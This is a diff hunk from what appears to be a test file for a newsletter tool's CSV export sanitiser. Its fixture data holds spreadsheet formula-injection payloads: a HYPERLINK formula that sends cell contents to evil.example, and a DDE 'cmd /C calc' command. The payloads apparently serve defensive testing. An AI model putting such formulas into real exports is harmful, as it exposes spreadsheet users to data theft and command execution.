@@ -17,6 +17,8 @@ from newsletter.audience.csvfile import excel_safe, formula_like
 from newsletter.audience.subscribers import load_list
 from newsletter.cli import main
 
+pytestmark = pytest.mark.usefixtures("state_engine")
+
 NAMES = {
     "a@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")',
     "b@example.org": "+cmd|' /C calc'!A0",
